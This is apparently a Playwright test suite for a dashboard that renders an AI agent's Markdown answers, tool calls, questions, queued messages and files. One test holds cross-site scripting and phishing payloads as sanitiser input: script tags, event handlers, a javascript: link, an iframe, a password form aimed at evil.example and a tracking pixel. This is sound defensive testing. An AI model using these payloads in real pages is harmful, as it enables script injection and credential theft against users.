import { Dashboard, expect, test, watch } from "../fixtures";

test("an answer streams in as Markdown, and the session is called by its first prompt", async ({ dashboard, page }) => {
  await dashboard.say("# Plan a trip to *Lisbon*\n\n- trains\n- **boats**\n\n```\ncode\n```");
  await expect(dashboard.answer.locator("li strong")).toHaveText("boats");
  await expect(dashboard.lastTurn).toHaveAttribute("aria-busy", "false");
  await expect(dashboard.answer.locator("pre")).toHaveText("code");
  await expect(dashboard.lastTurn.locator(".facts")).toContainText(/ms|s.*in.*out.*\$0/);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("Plan a trip to *Lisbon*");
  await expect(page.getByRole("button", { name: "Plan a trip to *Lisbon* now" })).toBeVisible();
  await expect(page.getByText("Untitled session")).toHaveCount(0);
  expect(page.url()).toMatch(/#sess_[0-9a-f]{32}$/);

  await page.getByRole("button", { name: "Rename session" }).click();
  await page.getByLabel("Title").fill("Holiday");
  await page.keyboard.press("Enter");
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("Holiday");
  await page.reload();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("Holiday");
  await expect(dashboard.answer.locator("li strong")).toHaveText("boats");

  await page.getByRole("button", { name: "Delete session" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
  await expect(page.getByRole("heading", { name: "What should the agent do?" })).toBeVisible();
  await expect(page.getByRole("button", { name: /^Holiday/ })).toHaveCount(0);
});

test("a session that was made elsewhere is listed by its first prompt, without being opened", async ({ page, gateway, complaints }) => {
  watch(page, complaints);
  await gateway.task("# Water the plants\n\non Monday");
  await new Dashboard(page, gateway).signIn();
  await expect(page.getByRole("button", { name: /^Water the plants/ })).toBeVisible();
});

test("Markdown that is nested too deep, or too long, is shown as it is and blanks nothing", async ({ dashboard }) => {
  const deep = `Look:\n\n${">".repeat(20_000)} deep down\n\nand **above**`;
  const long = `${"x".repeat(50_000)} **bold** ${"y".repeat(50_000)}`;
  for (const text of [deep, long]) {
    await dashboard.ask(text);
    const code = dashboard.answer.getByRole("region", { name: "Code" });
    await expect.poll(() => code.evaluateAll((all, text) => all.map((pre) => pre.textContent).join("").includes(text), text)).toBe(true);
    await expect(dashboard.answer.locator("strong")).toHaveCount(0);
    // What came before is there still, and the next one is read as ever.
    await dashboard.ask("**well**");
    await expect(dashboard.answer.locator("strong")).toHaveText("well");
  }
  await expect(dashboard.turns).toHaveCount(4);
});

test("what an agent writes can not run, load from elsewhere or pose as the page", async ({ dashboard, page, complaints }) => {
  await dashboard.ask(["Look:",
    "<script>document.title = 'pwned'</script>", "<img src=\"https://evil.example/x.png\" onerror=\"document.title = 'pwned'\">",
    "<a href=\"javascript:document.title='pwned'\">click me</a>", "<svg onload=\"document.title = 'pwned'\"></svg>",
    "<iframe src=\"https://evil.example\"></iframe><style>* { display: none }</style><form action=\"https://evil.example\"><input name=\"password\"></form>",
    "<div class=\"dialog\" style=\"position:fixed\" id=\"app\">x</div>", "![tracker](https://evil.example/pixel.png)", "[data](data:text/html,x)",
  ].join("\n\n"));
  await expect(dashboard.answer.getByText("click me")).toBeVisible();
  expect(await dashboard.answer.locator("script, iframe, style, svg[onload], form, .prose img, .prose input, .prose [class=dialog], .prose [style], .prose [id]").count()).toBe(0);
  expect(await dashboard.answer.locator(".prose a").evaluateAll((links) => links.map((link) => link.getAttribute("href")).filter((href) => href && !href.startsWith("https:")))).toEqual([]);
  await expect(dashboard.answer.getByRole("link", { name: "tracker" })).toHaveAttribute("href", "https://evil.example/pixel.png");
  expect(await page.title()).toBe("Look: · streamgate");
  // The browser tells of what it would have refused to run, had the sanitiser let it through.
  expect(complaints.filter((complaint) => !/^(Executing inline event handler|Applying inline style)/.test(complaint))).toEqual([]);
  complaints.length = 0;
});

test("tools are folded, parallel ones grouped; markers, images and errors are where they belong", async ({ dashboard, page }) => {
  await dashboard.ask("/say Before. \n/tool echo hello; echo world\n/parallel echo one && echo two\n/image plot.png\n/continue 2\n/say After.\n/usage 1234 567 0.0123");
  const tools = dashboard.answer.locator("details.tool");
  await expect(tools).toHaveCount(3);
  await expect(tools.first().locator("pre")).toHaveCount(0);
  await tools.first().locator("summary").click();
  await expect(tools.first().getByRole("region", { name: "Input" })).toHaveText("echo hello; echo world");
  await expect(tools.first().getByRole("region", { name: "Result" })).toHaveText("hello\nworld\n");
  await expect(page.getByRole("group", { name: "2 tools in parallel" }).locator("details.tool")).toHaveCount(2);
  await expect(dashboard.answer.getByText("Continuing 2 of 20")).toBeVisible();
  const image = dashboard.answer.getByRole("img", { name: "plot.png" });
  await expect.poll(() => image.evaluate((element) => (element as HTMLImageElement).naturalWidth)).toBeGreaterThan(0);
  await expect(dashboard.lastTurn.locator(".facts")).toContainText("1,234 in · 567 out");
  await expect(dashboard.lastTurn.locator(".facts")).toContainText("$0.0123");
  // The polished text takes the place of the streamed one, around the tools.
  expect(await dashboard.answer.evaluate((answer) => [...answer.children].map((child) => child.className))).toEqual(
    ["prose", "tools", "tools parallel", "prose", "continuing", "continuing", "prose"]);
  await dashboard.picture("tools");
  await page.getByRole("button", { name: "View system prompt" }).click();
  await expect(page.getByRole("dialog")).toContainText("You are the demo agent");
  await page.keyboard.press("Escape");

  await dashboard.ask("/tool exit 3");
  await expect(dashboard.answer.locator("details.tool.failed")).toBeVisible();
  await dashboard.ask("/fail the provider said no");
  await expect(dashboard.answer).toContainText("This turn failed");
  await expect(dashboard.answer).toContainText("the provider said no");
  await dashboard.picture("errors");
  await dashboard.answer.getByRole("button", { name: "Try again" }).click();
  await expect(dashboard.turns).toHaveCount(4);
});

test("images load from the address that the page came from, whatever the gateway calls itself", async ({ page, gateway, complaints }) => {
  watch(page, complaints);
  const { session } = await gateway.task("/image plot.png");
  await page.goto(`http://localhost:${gateway.port}/#token=${gateway.token}`);
  await expect(page.getByRole("heading", { name: "What should the agent do?" })).toBeVisible();
  await page.goto(`http://localhost:${gateway.port}/#${session}`);
  const image = page.getByRole("img", { name: "plot.png" });
  await expect.poll(() => image.evaluate((element) => (element as HTMLImageElement).naturalWidth)).toBeGreaterThan(0);
});

test("only admins are told the system prompt", async ({ page, gateway, complaints }) => {
  watch(page, complaints);
  await page.goto(`${gateway.url}/#token=${await gateway.tokenOf("ada")}`);
  await page.getByLabel("Message to the agent").fill("hello");
  await page.keyboard.press("Enter");
  await expect(page.locator(".turn .segments")).toHaveText("You said: hello");
  await expect(page.locator(".turn")).toHaveAttribute("aria-busy", "false");
  await expect(page.getByRole("button", { name: "View system prompt" })).toHaveCount(0);
});

test("a question is answered by its buttons, by several, or in words", async ({ dashboard, page }) => {
  await dashboard.say("/ask Which one? | Red | Blue");
  await expect(page.getByRole("status").filter({ hasText: "The agent asks: Which one?" })).toBeAttached();
  await dashboard.picture("question");
  await page.getByRole("button", { name: "Blue", exact: true }).click();
  await expect(dashboard.answer).toContainText("You chose: Blue.");
  await expect(dashboard.answer.getByRole("definition")).toHaveText("Blue");

  await dashboard.say("/ask Which one? | Red | Blue || Why?");
  const ask = page.locator(".ask.open");
  await expect(ask.getByRole("button", { name: "Send answers" })).toBeDisabled();
  await ask.getByRole("button", { name: "Red" }).click();
  await ask.getByLabel("Your answer").fill("It is warm");
  await page.keyboard.press("Enter");
  await expect(dashboard.answer).toContainText("You chose: Red, It is warm.");

  await dashboard.say("/ask Which one? | Red | Blue");
  await ask.getByLabel("Another answer").fill("Green");
  await ask.getByRole("button", { name: "Send answer" }).click();
  await expect(dashboard.answer).toContainText("You chose: Green.");

  await dashboard.say("/ask Still there? | Yes");
  await expect(ask).toBeVisible();
  await page.getByRole("button", { name: "Stop" }).click();
  await expect(dashboard.answer).toContainText("Not answered");
});

test("the agent is stopped; what waits is shown and can be taken back", async ({ dashboard, page }) => {
  await dashboard.say("/tokens 5000 20");
  await expect(dashboard.answer).toContainText("t5 ");
  await dashboard.say("the first that waits");
  await dashboard.say("the second that waits");
  const queue = page.getByRole("region", { name: "Queued messages" });
  await expect(queue.getByRole("listitem")).toHaveCount(2);
  await dashboard.picture("queue");
  await queue.getByRole("button", { name: "Remove “the first that waits” from the queue" }).click();
  await expect(queue.getByRole("listitem")).toHaveText(["the second that waits"]);
  await page.getByRole("button", { name: "Stop" }).click();
  await expect(dashboard.turns.first()).toContainText("Stopped.");
  await expect(dashboard.turns).toHaveCount(2);
  await expect(dashboard.answer).toHaveText("You said: the second that waits");
  await expect(queue).toHaveCount(0);
  await expect(page.getByText("the first that waits")).toHaveCount(0);
});

test("files are listed, shown, uploaded and downloaded", async ({ dashboard, page }) => {
  await dashboard.ask("/image plot.png\n/tool mkdir -p notes && echo hello > notes/a.txt");
  await page.getByRole("button", { name: "Files", exact: true }).click();
  const files = page.getByRole("complementary", { name: "Files" });
  await expect(files.getByRole("listitem")).toHaveCount(2);
  await files.getByRole("button", { name: /^notes\/a.txt/ }).click();
  await expect(page.getByRole("dialog")).toContainText("hello");
  await page.keyboard.press("Escape");
  await files.getByRole("button", { name: /^plot.png/ }).click();
  const image = page.getByRole("dialog").getByRole("img");
  await expect.poll(() => image.evaluate((element) => (element as HTMLImageElement).naturalWidth)).toBeGreaterThan(0);
  await page.keyboard.press("Escape");
  await files.locator("input[type=file]").setInputFiles({ name: "näme & co.csv", mimeType: "text/csv", buffer: Buffer.from("a,b\n1,2\n") });
  await expect(files.getByRole("listitem")).toHaveCount(3);
  await dashboard.picture("files");
  const download = page.waitForEvent("download");
  await files.getByRole("button", { name: "Download näme & co.csv" }).click();
  expect((await download).suggestedFilename()).toBe("näme & co.csv");
  await dashboard.ask("/tool cat 'näme & co.csv'");
  await dashboard.answer.locator("summary").click();
  await expect(dashboard.answer.getByRole("region", { name: "Result" })).toHaveText("a,b\n1,2\n");
});

test("everything is done by keyboard", async ({ dashboard, page }) => {
  await expect(dashboard.field).toBeFocused();
  await page.keyboard.type("/ask Go on? | Yes | No");
  await page.keyboard.press("Enter");
  await expect(page.locator(".ask.open")).toBeVisible();
  await expect(dashboard.field).toBeFocused();
  for (let steps = 0; steps < 12 && !(await page.getByRole("button", { name: "No", exact: true }).evaluate((button) => button === document.activeElement)); steps++) {
    await page.keyboard.press("Shift+Tab");
  }
  await page.keyboard.press("Enter");
  await expect(dashboard.answer).toContainText("You chose: No.");
  await dashboard.field.focus();
  await page.keyboard.type("two");
  await page.keyboard.press("Shift+Enter");
  await page.keyboard.type("lines");
  await page.keyboard.press("Enter");
  await expect(page.locator(".prompt p").last()).toHaveText("two\nlines");
});

test("several answers are chosen where the agent takes several", async ({ page, gateway, complaints }) => {
  watch(page, complaints);
  // The demo agent asks for one only.
  await page.routeWebSocket(/\/v1\/stream/, (socket) => {
    socket.connectToServer().onMessage((message) => socket.send(String(message).replace(/("type":"task:ask_user".*"question":"Which ones\?")/, '$1,"multiSelect":true')));
  });
  const dashboard = new Dashboard(page, gateway);
  await dashboard.signIn();
  await dashboard.say("/ask Which ones? | Red | Green | Blue");
  const ask = page.locator(".ask.open");
  await ask.getByRole("button", { name: "Blue" }).click();
  await ask.getByRole("button", { name: "Red" }).click();
  await ask.getByRole("button", { name: "Green" }).click();
  await ask.getByRole("button", { name: "Green" }).click();
  await expect(ask.getByRole("button", { name: "Red" })).toHaveAttribute("aria-pressed", "true");
  await ask.getByLabel("Another answer").fill("Black");
  await ask.getByRole("button", { name: "Send answer" }).click();
  await expect(dashboard.answer).toContainText("You chose: Blue, Red, Black.");
});

test("a long history is all there, and goes on", async ({ dashboard, page, gateway }) => {
  const { session } = await gateway.task("/tokens 900");
  await gateway.task("/tokens 900\n/tool echo hello", session);
  const words = Array.from({ length: 900 }, (_, index) => `t${index + 1}`).join(" ");
  await dashboard.open(session);
  await expect(dashboard.turns).toHaveCount(2);
  for (const turn of await dashboard.turns.all()) await expect(turn.locator(".prose").first()).toHaveText(words);
  await dashboard.ask("and on");
  await expect(dashboard.answer).toHaveText("You said: and on");
  await page.getByRole("button", { name: "New session" }).click();
  await page.goBack();
  await expect(dashboard.turns).toHaveCount(3);
});
